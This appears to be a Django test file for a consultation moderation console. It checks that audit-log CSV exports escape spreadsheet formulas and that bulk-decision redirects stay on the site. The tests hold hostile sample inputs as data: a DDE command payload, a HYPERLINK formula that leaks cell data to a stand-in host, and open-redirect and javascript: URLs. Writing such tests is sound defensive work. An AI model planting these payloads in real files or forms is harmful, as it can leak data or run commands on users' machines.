"""The console's files and forms cannot be turned against the secretariat: formulas in the audit log's CSV, and
a bulk decision's way back that leads off the site."""

import csv
import io
from http import HTTPStatus

import pytest
from django.urls import reverse

from consultations import services
from consultations.models import Submission, SubmissionState
from tests.factories import InputFactory, OrganisationFactory, country

pytestmark = pytest.mark.django_db

ANSWERS = {1: "Enhanced cooperation needs every government.", 2: "Each in its role."}


def test_it_writes_formulas_in_the_audit_log_csv_as_plain_text(client, consultation, moderator):
    organisation = OrganisationFactory(name="+cmd|' /C calc'!A0", status="verified", country=country("KEN"))
    sent = InputFactory(consultation=consultation, organisation=organisation, answers=ANSWERS)
    moderator.email = "-mona@example.org"  # a valid address, and a formula to a spreadsheet
    moderator.save()
    reason = '=HYPERLINK("https://evil.example/?leak="&A1,"Read the guidance")'
    services.submission_decide(moderator=moderator, submission=sent, to_state="rejected", reason=reason)
    client.force_login(moderator)
    response = client.get(
        reverse("consultations:moderation_audit"),
        {"consultation": consultation.slug, "to_state": "rejected", "format": "csv"},
    )
    assert response.status_code == HTTPStatus.OK
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 2
    assert dict(zip(rows[0], rows[1], strict=True)) | {"at_utc": "", "digest": ""} == {
        "at_utc": "",
        "consultation": "WGEC-2013",
        "reference": sent.reference,
        "organisation": "'+cmd|' /C calc'!A0",
        "actor": "'-mona@example.org",
        "from": "submitted",
        "to": "rejected",
        "reason": "'" + reason,
        "digest": "",
    }


@pytest.fixture
def two_sent(consultation):
    return [
        InputFactory(
            consultation=consultation,
            organisation=OrganisationFactory(status="verified", country=country(iso)),
            answers=ANSWERS,
        )
        for iso in ("KEN", "PER")
    ]


def accept_in_bulk(client, inputs, next_url, **extra):
    data = {"consultation": inputs[0].consultation.slug, "decision": "accepted", "selected": [s.pk for s in inputs]}
    return client.post(reverse("consultations:moderation_bulk"), {**data, "next": next_url}, **extra)


def test_it_goes_back_to_the_queue_page_the_bulk_decision_came_from(client, two_sent, moderator):
    client.force_login(moderator)
    back = reverse("consultations:moderation_queue") + "?state=submitted&page=2"
    response = accept_in_bulk(client, two_sent, back)
    assert (response.status_code, response["Location"]) == (HTTPStatus.FOUND, back)
    assert set(Submission.objects.values_list("state", flat=True)) == {SubmissionState.ACCEPTED}


@pytest.mark.parametrize("elsewhere", ["https://evil.example/", "//evil.example/", "javascript:alert(1)"])
def test_it_goes_to_the_queue_when_a_bulk_decision_would_lead_off_the_site(client, two_sent, moderator, elsewhere):
    client.force_login(moderator)
    response = accept_in_bulk(client, two_sent, elsewhere)
    assert (response.status_code, response["Location"]) == (HTTPStatus.FOUND, reverse("consultations:moderation_queue"))
    assert set(Submission.objects.values_list("state", flat=True)) == {SubmissionState.ACCEPTED}


def test_it_keeps_a_moderator_on_https_after_a_bulk_decision(client, two_sent, moderator):
    client.force_login(moderator)
    response = accept_in_bulk(client, two_sent, "http://testserver/moderation/inputs/", secure=True)
    assert (response.status_code, response["Location"]) == (HTTPStatus.FOUND, reverse("consultations:moderation_queue"))
